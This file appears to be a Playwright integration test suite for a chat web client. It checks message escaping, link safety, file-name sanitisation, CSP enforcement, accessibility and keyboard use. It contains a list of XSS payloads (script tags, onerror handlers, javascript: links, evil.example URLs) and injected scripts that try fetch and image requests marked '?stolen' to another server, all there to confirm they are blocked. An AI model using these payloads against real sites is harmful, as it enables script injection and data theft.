"""What strangers write does nothing in the page; and nobody is kept from using it."""

from __future__ import annotations

import asyncio
import os
from pathlib import Path

import pytest
from playwright.async_api import Browser, Page, expect

from chatcore import ChatServer, Listen, connect
from chatcore.text.safe_text import safe_text
from chatcore_files import DownloadFolder
from tests.integration.web.house import (
    address,
    everything,
    is_in,
    joins,
    last_notice,
    says,
    sees,
    web_options,
    web_server,
)

AXE = Path(__file__).parents[3] / ".venv" / "web" / "node_modules" / "axe-core" / "axe.min.js"
HOSTILE = [
    "<img src=x onerror=\"document.title='owned'\">",
    "<script>document.title='owned'</script>",
    "javascript:alert(1) data:text/html,<script>alert(1)</script>",
    "[click](javascript:alert(1)) ![x](https://evil.example/x.png)",
    "https://user@evil.example/ http://evil.example/?q=\"onclick='x'",
    "\u202egnp.exe \x1b]0;owned\x07 \x00 {{constructor.constructor('alert(1)')()}}",
    "```\n<b>code</b>\n```",
    "a" * 20_000,
    "z" + "\u0301" * 500,
]
pytestmark = pytest.mark.asyncio(loop_scope="package")


class Watched:
    """What a page asked for, and what went wrong in it."""

    def __init__(self, page: Page) -> None:
        self.asked: list[str] = []
        self.blocked: list[str] = []
        self.problems: list[str] = []
        page.on("request", lambda request: self.asked.append(request.url))
        page.on("console", lambda message: self.blocked.append(message.text))
        page.on("pageerror", lambda error: self.problems.append(str(error)))
        page.on("dialog", lambda dialog: self.problems.append(dialog.message))


async def test_what_others_write_is_text(browser: Browser) -> None:
    """Nothing of it is run, fetched or taken for markup, and no link leads anywhere but to a page."""
    page = await browser.new_page()
    watched = Watched(page)
    async with web_server() as server, connect(server.urls[0], username="__proto__") as mallory:
        await mallory.create("constructor")
        await joins(page, address(server), "alice")
        await says(page, "/join constructor")
        await is_in(page, "constructor")
        for text in HOSTILE:
            await mallory.send(text)
            await mallory.send_direct(["alice"], text)
        await mallory.send(HOSTILE[4])
        await mallory.send("the end")
        await sees(page, "the end")
        shown = await everything(page)
        assert any(HOSTILE[0] in text for text in shown)
        assert any(safe_text(HOSTILE[5]) in text for text in shown)
        assert await page.locator(".scroller img, .scroller script, .scroller b").count() == 0
        links = await page.locator(".scroller a").evaluate_all("(all) => all.map((a) => [a.href, a.rel, a.target])")
        assert links == [["http://evil.example/?q=", "noopener noreferrer", "_blank"]]
        assert "owned" not in await page.title()
        assert {url.split("/")[2] for url in watched.asked} == {address(server).split("/")[2]}
        await page.locator(".place-name", has_text="__proto__").click()
        await expect(page.get_by_role("heading", level=1)).to_have_text("__proto__")
        assert any(HOSTILE[1] in text for text in await everything(page))
    assert watched.problems == []
    await page.close()


@pytest.mark.parametrize("begun", [12, 16, 44])
async def test_no_link_is_made_of_a_cut_address(page: Page, begun: int) -> None:
    """A message is shown in part at first, and its sender says where it is cut."""
    async with web_server() as server, connect(server.urls[0], username="mallory") as mallory:
        await joins(page, address(server), "alice")
        whole = "https://bank.example/pay?to=alice&amount=1000"
        await mallory.send("y " * 2000 + whole + " " + "y" * (1998 - len(whole) - begun) + " " + whole)
        more = page.get_by_role("button", name="Show all of it")
        await expect(more).to_be_attached()
        links = page.locator(".text a")
        assert await links.evaluate_all("(all) => all.map((a) => a.href)") == [whole]
        await more.dispatch_event("click")
        assert await links.evaluate_all("(all) => all.map((a) => a.href)") == [whole, whole]


async def test_what_is_shown_in_part_is_shown_as_in_all_of_it(page: Page) -> None:
    """Code is code, and no character is cut in two, neither in a message nor in a quote."""
    async with web_server() as server, connect(server.urls[0], username="bob") as bob:
        await joins(page, address(server), "alice")
        await bob.send("```\n" + "code\n" * 1500 + "```")
        await expect(page.locator(".message pre")).to_contain_text("code")
        await bob.send("z" * 5999 + "\U0001f600")
        await expect(page.locator(".message .text").last).to_have_text("z" * 5999)
        await bob.send("x" * 159 + "\U0001f600 and so on")
        await sees(page, "and so on")
        await page.locator(".message").last.hover()
        await page.get_by_role("button", name="Answer this message").click()
        await expect(page.locator(".answered")).to_have_text("You answer bob: " + "x" * 159)
        await says(page, "indeed")
        await expect(page.locator(".quoted")).to_have_text("x" * 159)


async def test_the_name_of_a_file_is_text_too(browser: Browser, tmp_path: Path) -> None:
    """It is shown as it is, and kept under a plain one."""
    page = await browser.new_page()
    watched = Watched(page)
    source = tmp_path / "<img src=x onerror=alert(1)>\u202egnp.exe"
    source.write_bytes(b"x")
    folder = DownloadFolder(tmp_path / "in")
    async with web_server() as server, connect(server.urls[0], username="bob", files=folder) as bob:
        await joins(page, address(server), "alice")
        await bob.offer_file(source, to=["alice"])
        await page.locator(".place-name", has_text="bob").click()
        await expect(page.locator(".file-name")).to_have_text("<img src=x onerror=alert(1)>\\u202egnp.exe")
        await page.get_by_role("button", name="Receive").click()
        await expect(page.get_by_role("link", name="Save")).to_have_attribute(
            "download", "_img src=x onerror=alert(1)__gnp.exe"
        )
    assert watched.problems == []
    await page.close()


async def test_the_policy_blocks_a_script_that_somebody_got_into_the_page(browser: Browser) -> None:
    """Inline, by an attribute, from another place, by eval, by markup; and requests to elsewhere."""
    page = await browser.new_page()
    watched = Watched(page)
    async with web_server() as server, web_server() as other:
        await joins(page, address(server), "alice")
        await page.evaluate(
            """(elsewhere) => {
                const add = (tag, more) => {
                    const it = document.createElement(tag);
                    for (const [name, value] of Object.entries(more)) it.setAttribute(name, value);
                    document.body.append(it);
                    return it;
                };
                const tries = [
                    () => { add("script", {}).textContent = "owned = 1"; },
                    () => add("script", { src: elsewhere + "/app.js" }),
                    () => add("img", { src: "x", onerror: "owned = 2" }),
                    () => { document.body.innerHTML += "<img src=x onerror='owned = 3'>"; },
                    () => setTimeout("owned = 4"),
                    () => add("iframe", { src: elsewhere }),
                    () => add("a", { href: "javascript:owned = 5" }).click(),
                    () => fetch(elsewhere + "/?stolen"),
                    () => new WebSocket(elsewhere.replace("http", "ws")),
                    () => add("img", { src: elsewhere + "/?stolen" }),
                ];
                for (const each of tries) try { each(); } catch {}
            }""",
            address(other),
        )
        await asyncio.sleep(0)
        await says(page, "still here")
        await sees(page, "still here")
        assert await page.evaluate("typeof owned") == "undefined"
        assert not other.chat.users
        assert sum("Content Security Policy" in text or "TrustedScript" in text for text in watched.blocked) >= 7
    await page.close()


async def test_nobody_is_kept_out_by_how_the_page_is_made(browser: Browser) -> None:
    """axe-core finds nothing: contrast, names, roles, order; in both colours, wide and narrow."""
    if not AXE.exists():
        advice = "axe-core is missing: scripts/web-types fetch"
        pytest.fail(advice) if os.environ.get("CI") else pytest.skip(advice)
    source = AXE.read_text()
    found: list[str] = []
    for colours, size in (("light", (1440, 900)), ("dark", (390, 844))):
        context = await browser.new_context(
            bypass_csp=True, color_scheme=colours, viewport={"width": size[0], "height": size[1]}
        )
        page = await context.new_page()

        async def look(where: str, page: Page = page, colours: str = colours) -> None:
            await page.evaluate(source + "; 0")
            result = await page.evaluate("axe.run(document, { resultTypes: ['violations'] })")
            found.extend(
                f"{where}, {colours}: {one['id']}: {[node['html'] for node in one['nodes']]}"
                for one in result["violations"]
            )

        async with web_server() as server, connect(server.urls[0], username="bob") as bob:
            await page.goto(address(server))
            await look("joining")
            await joins(page, address(server), "alice")
            await bob.send("hello alice, `code` and https://example.org\n```\nblock\n```")
            await bob.send_direct(["alice"], "psst")
            await bob.send("again", reply_to=1)
            await bob.react(1, "\u2764\ufe0f")
            await page.locator("article").first.hover()
            await says(page, "an answer")
            await says(page, "/nothing")
            await sees(page, "hello alice")
            await look("talking")
            await page.get_by_role("textbox").last.fill("/")
            await expect(page.get_by_role("option")).to_have_count(8)
            await look("commands")
            await page.keyboard.press("Escape")
            await page.get_by_role("textbox").last.fill("")
            await says(page, "/search hello")
            await expect(page.locator(".found-message")).to_have_count(1)
            await look("search")
            await page.keyboard.press("Escape")
            await says(page, "/register")
            await expect(page.get_by_label("New password")).to_be_focused()
            await look("password")
            await page.keyboard.press("Escape")
            await says(page, "/create elsewhere")
            await is_in(page, "elsewhere")
            await bob.send("alice, come back")
            await expect(page.locator(".badge.calls", has_text="@ 1")).to_be_attached()
            if size[0] < 700:
                await page.get_by_role("button", name="Rooms and messages").click()
            await look("rooms")
            await page.get_by_role("button", name="Settings").click()
            await expect(page.get_by_role("dialog")).to_be_visible()
            await look("settings")
        await context.close()
    assert found == []


async def test_everything_can_be_done_by_keyboard(browser: Browser) -> None:
    """Tab reaches what there is; the arrows choose a completion, Tab takes it; Escape closes."""
    page = await browser.new_page()
    async with web_server() as server, connect(server.urls[0], username="bob") as bob:
        await page.goto(address(server))
        await expect(page.get_by_role("textbox").first).to_be_focused()
        await page.keyboard.type("alice")
        await page.keyboard.press("Enter")
        await expect(page.locator(".my-name")).to_have_text("alice")
        await expect(page.get_by_role("textbox").last).to_be_focused()
        await page.keyboard.type("/wh")
        await page.keyboard.press("ArrowDown")
        await page.keyboard.press("Tab")
        await page.keyboard.type("b")
        await page.keyboard.press("Tab")
        await expect(page.get_by_role("textbox").last).to_have_value("/whois bob")
        await page.keyboard.press("Enter")
        await expect(last_notice(page)).to_contain_text("bob is in lobby")
        await page.keyboard.type("hello @b")
        await page.keyboard.press("Tab")
        await page.keyboard.press("Enter")
        await sees(page, "hello bob")
        assert bob.username == "bob"
        reached = set()
        for _ in range(30):
            await page.keyboard.press("Tab")
            reached.add(await page.evaluate("document.activeElement.ariaLabel ?? document.activeElement.textContent"))
        assert {"Create a room", "Settings", "Offer a file", "Who is here", "Message"} <= reached
    await page.close()


async def test_tab_leaves_a_line_with_nothing_to_complete_when_it_is_pressed_once_more(page: Page) -> None:
    """The first one may have been meant for a name, and what is typed next for the line."""
    async with web_server() as server:
        await joins(page, address(server), "alice")
        line = page.get_by_role("textbox", name="Message")
        await line.press_sequentially("hello zzz")
        await page.keyboard.press("Tab")
        await page.keyboard.type("z")
        await page.keyboard.press("Tab")
        await expect(line).to_be_focused()
        await expect(line).to_have_value("hello zzzz")
        await page.keyboard.press("Tab")
        await expect(page.get_by_role("button", name="Send")).to_be_focused()
        await page.keyboard.press("Enter")
        await sees(page, "hello zzzz")


async def test_tab_behind_escape_leaves_the_line_where_there_is_something_to_complete_too(page: Page) -> None:
    """What was closed does not open again; typed on, the line completes as before."""
    async with web_server() as server, connect(server.urls[0], username="bob"):
        await joins(page, address(server), "alice")
        line = page.get_by_role("textbox", name="Message")
        await expect(page.locator(".member", has_text="bob")).to_be_visible()
        await line.press_sequentially("hello @b")
        await expect(page.get_by_role("listbox", name="Completions")).to_be_visible()
        await page.keyboard.press("Escape")
        await page.keyboard.press("Tab")
        await expect(page.get_by_role("button", name="Send")).to_be_focused()
        await line.press_sequentially("o")
        await page.keyboard.press("Tab")
        await expect(line).to_have_value("hello bob ")


async def test_completions_are_offered_to_who_comes_back_to_the_line_at_once(page: Page) -> None:
    """They are closed for who has left it, and not for who is back, nor for the same words later."""
    async with web_server() as server, connect(server.urls[0], username="alfred"):
        await joins(page, address(server), "alice")
        await expect(page.locator(".members")).to_contain_text("alfred")
        line, completions = page.locator("#message"), page.locator("#completions")
        await line.press_sequentially("say @al")
        await expect(completions).to_be_visible()
        # Nothing is between the two that takes its time; then the time is up that who leaves is given.
        await line.evaluate(
            "line => { line.blur(); line.focus(); return new Promise((done) => setTimeout(done, 400)); }"
        )
        await expect(completions).to_be_visible()
        await line.press("Escape")
        await expect(completions).to_be_hidden()
        await line.press("Backspace")
        await line.press_sequentially("l")
        await expect(completions).to_be_visible()


@pytest.mark.parametrize("keys", [["Home"], ["Control+ArrowLeft", "Control+ArrowLeft"], ["Shift+Home"]])
async def test_completions_are_gone_where_the_cursor_is_elsewhere(page: Page, keys: list[str]) -> None:
    """They are for the word that was before it: whatever stands there by now stays."""
    async with web_server() as server, connect(server.urls[0], username="alfred"):
        await joins(page, address(server), "alice")
        await expect(page.locator(".members")).to_contain_text("alfred")
        line = page.locator("#message")
        completions = page.locator("#completions")
        for go_on in ("Tab", "Enter"):
            await line.fill("")
            await line.press_sequentially("say hello @al")
            await expect(completions).to_be_visible()
            await line.press("ArrowDown")
            for key in keys:
                await line.press(key)
            await expect(completions).to_be_hidden()
            await line.press(go_on)
        await sees(page, "say hello @al")
        await line.press_sequentially("say hello @al")
        await expect(completions).to_be_visible()
        await line.click(position={"x": 2, "y": 10})
        await expect(completions).to_be_hidden()
        await line.press("End")
        await line.press("Tab")
        await expect(line).to_have_value("say hello alfred ")


async def test_a_completion_that_is_taken_as_the_cursor_goes_elsewhere_changes_nothing(page: Page) -> None:
    """The list is still open when it is pressed: browsers tell a moment later where the cursor is."""
    async with web_server() as server, connect(server.urls[0], username="alfred"):
        await joins(page, address(server), "alice")
        await expect(page.locator(".members")).to_contain_text("alfred")
        line = page.locator("#message")
        await line.press_sequentially("say hello @al")
        await expect(page.locator("#completion-0")).to_be_visible()
        await page.evaluate(
            """() => {
                document.querySelector("#message").setSelectionRange(5, 5);
                document.querySelector("#completion-0").dispatchEvent(new PointerEvent("pointerdown"));
            }"""
        )
        await expect(page.locator("#completions")).to_be_hidden()
        await expect(line).to_have_value("say hello @al")


async def test_a_page_over_https_with_the_servers_own_certificate(browser: Browser, tmp_path: Path) -> None:
    """Once the browser's warning is passed, all is as with any other one, WebTransport too."""
    context = await browser.new_context(ignore_https_errors=True)
    page = await context.new_page()
    options = web_options(tls_own=True, state_dir=str(tmp_path / "state"), handshake_timeout=30.0)
    async with ChatServer(listen=[Listen("ws", options=options), Listen("quic", options=options)]) as server:
        assert address(server).startswith("https://")
        await joins(page, address(server), "alice")
        await says(page, "encrypted")
        await sees(page, "encrypted")
        await expect(page.locator(".over")).to_contain_text(", encrypted")
        await page.locator(".over").click()
        await expect(page.get_by_role("dialog")).to_contain_text("compare its fingerprint")
    await context.close()


async def test_a_page_is_connected_by_webtransport_where_the_server_has_it(browser: Browser, tmp_path: Path) -> None:
    """And says so; files go there too. Where it does not work it is a WebSocket, and says why."""
    page = await browser.new_page()
    options = web_options(state_dir=str(tmp_path / "state"), handshake_timeout=30.0)
    async with ChatServer(listen=[Listen("ws", options=options), Listen("quic", options=options)]) as server:
        url = address(server)
        await joins(page, url, "alice")
        await expect(page.locator(".over")).to_have_text("WebTransport, encrypted")
        async with connect(server.urls[0], username="bob") as bob:
            assert (await bob.whois("alice")).transport == "quic"
            await says(page, "over QUIC")
            await sees(page, "over QUIC")
            await bob.send("back")
            await sees(page, "back")
    await page.close()


OFF = """const refuse = () => { throw new DOMException("denied", "SecurityError"); };
for (const name of ["localStorage", "sessionStorage"]) Object.defineProperty(window, name, { get: refuse });
window.BroadcastChannel = class { constructor() { refuse(); } };"""
"""Cookies switched off take storage and channels between tabs away, some with an error."""

FULL = """Storage.prototype.setItem = () => { throw new DOMException("full", "QuotaExceededError"); };"""


@pytest.mark.parametrize("storage", [OFF, FULL], ids=["off", "full"])
async def test_a_browser_that_keeps_nothing_for_the_page_lets_people_talk(browser: Browser, storage: str) -> None:
    """It says so, once: to load the page anew would ask for a name, and that one would be taken."""
    context = await browser.new_context(locale="en-GB")
    await context.add_init_script(storage)
    page = await context.new_page()
    async with web_server() as server:
        await joins(page, f"{address(server)}/#room=class", "alice")
        told = page.locator(".notice", has_text="This browser cannot remember who you are")
        await expect(told).to_have_count(1)
        await says(page, "without storage")
        await sees(page, "without storage")
        await says(page, "/join lobby")
        await expect(page.get_by_role("heading", level=1)).to_have_text("# lobby")
        await says(page, "still without")
        await sees(page, "still without")
        await expect(told).to_have_count(0)
    await context.close()


async def test_where_the_system_gives_the_colours_it_is_seen_where_one_is(page: Page) -> None:
    """Backgrounds are gone then: lines say which room is shown, and where one types."""
    await page.emulate_media(forced_colors="active")
    async with web_server() as server:
        await joins(page, address(server), "alice")
        await expect(page.locator(".place[aria-current]")).to_have_css("outline-style", "solid")
        await expect(page.locator(".composer-box")).to_have_css("outline-style", "solid")


SHOWS = """([outer, tag, attributes]) => {
    document.querySelector("#sample")?.remove();
    const sample = document.createElement("div");
    sample.id = "sample";
    const place = { position: "fixed", inset: "0 auto auto 0", zIndex: 9, width: "300px", padding: "12px" };
    Object.assign(sample.style, place, { background: "Canvas" });
    const row = document.createElement("div");
    row.className = outer;
    const shown = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) shown.setAttribute(name, value);
    shown.append("what it says");
    row.append(shown);
    sample.append(row);
    document.body.append(sample);
    shown.tabIndex = 0;
    if ("data-focus" in attributes) shown.focus({ focusVisible: true });
}"""
"""Puts something above the page as the page has it: the class of what it stands in, its tag, its attributes."""


@pytest.mark.parametrize(
    ("one", "other"),
    [
        pytest.param(
            ("row", "article", {"class": "message"}), ("row", "article", {"class": "message mention"}), id="mention"
        ),
        pytest.param(
            ("row", "article", {"class": "message"}), ("row found", "article", {"class": "message"}), id="found"
        ),
        pytest.param(
            ("reactions", "button", {"class": "reaction", "aria-pressed": "false"}),
            ("reactions", "button", {"class": "reaction", "aria-pressed": "true"}),
            id="own emoji",
        ),
        pytest.param(
            ("", "progress", {"max": "2", "value": "0"}), ("", "progress", {"max": "2", "value": "1"}), id="progress"
        ),
        pytest.param(
            ("", "button", {"class": "place", "aria-current": "page"}),
            ("", "button", {"class": "place", "aria-current": "page", "data-focus": ""}),
            id="keyboard at the room",
        ),
    ],
)
async def test_where_the_system_gives_the_colours_every_state_has_a_look_of_its_own(
    page: Page, one: tuple[str, str, dict[str, str]], other: tuple[str, str, dict[str, str]]
) -> None:
    """Backgrounds and shadows are gone then, and what they have said."""
    await page.emulate_media(forced_colors="active", reduced_motion="reduce")
    async with web_server() as server:
        await joins(page, address(server), "alice")
        looks = list[bytes]()
        for shown in (one, one, other):
            await page.evaluate(SHOWS, shown)
            looks.append(await page.locator("#sample").screenshot(animations="disabled"))
        assert looks[0] == looks[1]
        assert looks[1] != looks[2]


async def test_an_address_reads_the_same_in_a_text_from_right_to_left(page: Page) -> None:
    """With its host in front: what is behind it does not change places with it."""
    where = """(link) => ["https", "example", "x=1"].map((part) => {
        const range = document.createRange();
        const at = link.textContent.indexOf(part);
        range.setStart(link.firstChild, at);
        range.setEnd(link.firstChild, at + part.length);
        return range.getBoundingClientRect().left;
    })"""
    async with web_server() as server, connect(server.urls[0], username="bob") as bob:
        await joins(page, address(server), "alice")
        await bob.send("\u05e9\u05dc\u05d5\u05dd https://example.com/\u05e9\u05dc\u05d5\u05dd?x=1")
        await sees(page, "example.com")
        places = await page.locator(".text a").evaluate(where)
        assert places == sorted(places)


@pytest.mark.parametrize("storage", [OFF, FULL], ids=["off", "full"])
async def test_what_is_chosen_holds_where_the_browser_keeps_nothing(browser: Browser, storage: str) -> None:
    """For as long as the page is open: language, colours, and the passwords of who corrects the name beside them."""
    context = await browser.new_context(locale="en-GB", color_scheme="light")
    await context.add_init_script(storage)
    page = await context.new_page()
    async with ChatServer(listen=[Listen(options=web_options())], password="sesame") as server:
        await page.goto(address(server))
        await page.get_by_role("button", name="Français").click()
        await expect(page.get_by_role("button", name="Entrer")).to_be_visible()
        await page.locator("#name").fill("alice")
        await page.keyboard.press("Enter")
        await expect(page.locator("#password")).to_be_visible()
        await page.locator("#name").fill("anna")
        await page.locator("#password").fill("sesame")
        await page.keyboard.press("Enter")
        await expect(page.locator(".my-name")).to_have_text("anna")
        await page.get_by_role("button", name="Réglages").click()
        await page.locator("#theme").select_option("dark")
        await expect(page.locator("html")).to_have_attribute("data-theme", "dark")
        await page.locator("#language").select_option("en")
        await expect(page.get_by_role("dialog", name="Settings").locator("#theme")).to_have_value("dark")
        await expect(page.locator("html")).to_have_attribute("lang", "en")
    await context.close()
